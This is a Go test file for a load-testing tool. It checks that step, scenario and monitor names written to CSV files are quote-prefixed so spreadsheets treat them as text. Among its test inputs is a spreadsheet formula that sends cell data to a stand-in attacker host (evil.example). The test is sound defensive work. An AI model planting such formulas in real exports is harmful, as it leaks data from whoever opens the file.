package main

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/perflab/perflab/results"
)

// formula reports whether a spreadsheet takes a cell for a formula: it
// begins with =, +, -, @, a tab or a carriage return and is no number.
func formula(cell string) bool {
	if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
		return false
	}
	_, err := strconv.ParseFloat(cell, 64)
	return err != nil
}

// readCSVFile reads a CSV file whole, header first.
func readCSVFile(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cr := csv.NewReader(f)
	cr.FieldsPerRecord = -1
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// checkCells fails on any cell of rows a spreadsheet takes for a formula,
// and on a numeric column's cell that is not a number; it returns how many
// text cells begin with the quote that keeps them text.
func checkCells(t *testing.T, name string, rows [][]string, numeric ...string) int {
	t.Helper()
	if len(rows) < 2 {
		t.Fatalf("%s: %d rows", name, len(rows))
	}
	quoted := 0
	for i, row := range rows[1:] {
		for j, cell := range row {
			if formula(cell) {
				t.Errorf("%s line %d, %s: %q is a formula", name, i+2, rows[0][j], cell)
			}
			if strings.HasPrefix(cell, "'") {
				quoted++
			}
			if slices.Contains(numeric, rows[0][j]) && cell != "" {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("%s line %d, %s: %q is not a number", name, i+2, rows[0][j], cell)
				}
			}
		}
	}
	return quoted
}

// Names and ids that a spreadsheet would take for formulas (a step named
// =HYPERLINK(...), a scenario +cmd, a monitor @mon, a service's id
// =1+1) are written into every CSV file perflab writes with a quote
// before them, and read back by perflab as they were; a step named -3.5,
// a number, is left as it is, and so are the numeric columns.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	dir := t.TempDir()
	// The service logs the requests that carry an id.
	srv := loggingServer(t, filepath.Join(dir, "audit.log"), time.Millisecond, func(_ int, id string) bool { return id != "" })
	const link = `=HYPERLINK("http://evil.example/?"&A1,"x")`
	plan := filepath.Join(dir, "plan.yaml")
	body := "name: '@plan'\ntarget: " + srv.URL + "\ninterval: 100ms\n" +
		"monitors: [{name: '@mon', kind: process, pid: " + strconv.Itoa(os.Getpid()) + "}]\n" +
		"logs: [{files: [audit.log], pattern: {line: '^(?P<start>\\S+) (?P<end>\\S+) event=(?P<id>\\S+)$'}}]\n" +
		"scenarios: [{name: '+cmd', vus: 1, iterations: 20, flow: [\n" +
		"  {name: " + strconv.Quote(link) + ", url: /a},\n" +
		"  {name: '-3.5', url: /b},\n" +
		"  {transaction: '-2+3', steps: [{name: '@SUM(A1)', method: POST, url: /e, headers: {X-Request-ID: '=1+${iteration}'}, correlate: '=1+${iteration}'}]}]}]\n" +
		"thresholds: ['-2+3: p95 < 10s']\n"
	if err := os.WriteFile(plan, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	run := runDir(t, plan, t.TempDir(), "plan")
	intervals := readCSVFile(t, filepath.Join(run, results.IntervalsCSV))
	if n := checkCells(t, "intervals.csv", intervals, "stage", "interval", "start_ms", "end_ms", "count", "errors", "rps", "p50_ms", "p95_ms", "p99_ms", "max_ms"); n == 0 {
		t.Error("intervals.csv: no cell quoted")
	}
	if n := checkCells(t, "resources.csv", readCSVFile(t, filepath.Join(run, "resources.csv")), "time_ms", "value"); n == 0 {
		t.Error("resources.csv: no cell quoted (the monitor @mon)")
	}
	requests := readCSVFile(t, filepath.Join(run, "requests.csv"))
	if n := checkCells(t, "requests.csv", requests, "start_unix_ns", "end_unix_ns"); n != 2*20 {
		t.Errorf("requests.csv: %d cells quoted, want the operation and the id of 20 requests", n)
	}
	if requests[1][0] != "'@SUM(A1)" || requests[1][1] != "'=1+0" {
		t.Errorf("requests.csv: %q", requests[1])
	}
	for _, table := range []string{"operations", "stages", "thresholds", "intervals"} {
		code, text, errs := runCLI(t, "report", "--format", "csv", "--table", table, run)
		if code != exitOK {
			t.Fatalf("report --table %s: %s", table, errs)
		}
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		checkCells(t, "report --table "+table, rows, "count", "errors", "success_ratio", "rps", "min_ms", "mean_ms", "max_ms", "p50_ms", "p75_ms", "p95_ms", "p99_ms", "avg_ms", "actual", "start_ms", "end_ms")
		if !strings.Contains(text, "'"+strings.ReplaceAll(link, `"`, `""`)) && (table == "operations" || table == "intervals") {
			t.Errorf("report --table %s does not hold the step's name, quoted:\n%s", table, text)
		}
		if table == "operations" && !strings.Contains(text, ",-3.5,") {
			t.Errorf("the step named -3.5, a number, is not as it is:\n%s", text)
		}
	}
	// perflab reads its own files back as they were: the intervals'
	// counts by name, the monitor's samples, the requests matched with
	// the service's log.
	rd, err := results.ReadDir(run)
	if err != nil {
		t.Fatal(err)
	}
	var steps int64
	stage := rd.Summary.Stages[0]
	for _, op := range stage.Operations {
		for _, iv := range rd.IntervalsOf(stage.Index, op) {
			if iv.Count < 0 {
				t.Errorf("%s: an interval's count was not read from intervals.csv", op.Name)
			}
			if op.Name == link {
				steps += iv.Count
			}
		}
	}
	if steps != 20 {
		t.Errorf("%s: %d in the intervals read back, want 20", link, steps)
	}
	mons := map[string]bool{}
	for _, p := range rd.Points {
		mons[p.Monitor] = true
	}
	if !mons["@mon"] {
		t.Errorf("the monitors read back: %v", mons)
	}
	if l := rd.Summary.Logs; l == nil || len(l.Ops) != 1 || l.Ops[0].Operation != "@SUM(A1)" || l.Ops[0].Matched != 20 {
		t.Errorf("the requests matched with the log: %+v", l)
	}
}
